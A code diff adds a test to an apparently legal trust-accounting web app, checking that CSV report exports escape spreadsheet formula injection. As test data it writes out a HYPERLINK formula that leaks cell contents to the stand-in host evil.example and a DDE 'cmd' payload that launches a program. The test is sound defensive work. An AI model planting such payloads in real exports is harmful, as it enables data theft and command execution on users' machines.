@@ -366,3 +366,46 @@ def test_entries_dated_the_same_day_keep_their_order(app, client, auth, books):
         assert db.session.scalar(select(JournalEntry.id).order_by(JournalEntry.id.desc()))
     _, _, rows, _ = read_csv(client.get("/reports/journal?from=2026-09-01&to=2026-09-30&format=csv"))
     assert [r[8] for r in rows] == ["10000.00", "10001.00", "15001.00", "13801.00", "13801.00"]
+
+
+def test_text_a_client_typed_never_runs_as_a_spreadsheet_formula(app, client, auth, books):
+    """A payer's name comes from the client; a CSV cell starting with = + - @ would run as a formula in Excel, so
+    text cells get a leading apostrophe. Amounts (a negative one starts with -) stay numbers."""
+    sign_in(app, auth)
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    with app.app_context():
+        contact = db.session.get(Contact, books.client_b)
+        contact.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+        number = db.session.get(Matter, books.matter_b1).number
+        db.session.commit()
+        record_deposit(
+            account=db.session.get(BankAccount, books.account),
+            holder=Holder(books.client_b, books.matter_b1),
+            amount_cents=2_00,
+            entry_date=date(2026, 11, 20),
+            method="cash",
+            payer=attack,
+            reference="+1 555 0100",
+            description="-2+3",
+        )
+    urls = [
+        "/reports/journal?format=csv",
+        f"/reports/client-ledger?matter={number}&format=csv",
+        f"/reports/balances?as_of={AS_OF}&format=csv",
+        "/reports/payments?format=csv",
+        f"/reports/open-requests?as_of={AS_OF}&format=csv",
+    ]
+    cells = []
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        cells += [c for line in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in line]
+    for value in cells:
+        if value[:1] in ("=", "+", "@", "\t", "\r"):
+            pytest.fail(f"a CSV cell would run as a formula: {value!r}")
+        if value.startswith("-"):
+            assert re.fullmatch(r"-\d+\.\d\d", value), value
+    assert "'" + attack in cells and "'+1 555 0100" in cells and "'-2+3" in cells
+    assert any(value.startswith("'@SUM(1+1)") for value in cells)
+    _, _, rows, _ = read_csv(client.get("/reports/journal?from=2026-11-20&to=2026-11-20&format=csv"))
+    assert [(r[3], r[4], r[5], r[6]) for r in rows] == [("'-2+3", "'" + attack, "'+1 555 0100", "2.00")]
